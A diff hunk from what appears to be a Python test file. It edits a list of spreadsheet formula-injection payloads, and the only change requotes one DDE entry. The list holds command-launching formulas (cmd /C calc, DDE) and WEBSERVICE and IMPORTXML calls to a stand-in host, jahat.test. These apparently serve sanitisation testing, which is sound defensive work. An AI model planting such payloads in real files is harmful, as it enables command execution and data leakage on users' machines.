@@ -20,7 +20,7 @@ BODIES = [
     "SUM(1,1)*cmd|' /C calc'!A0",
     'WEBSERVICE("http://jahat.test/")',
     'IMPORTXML("http://jahat.test/","//a")',
-    "DDE(\"cmd\";\"/C calc\";\"x\")",
+    'DDE("cmd";"/C calc";"x")',
     "\x00\x07=1",
 ]
 BLANKS = ["", " ", "  ", "\u00a0", "\t"]
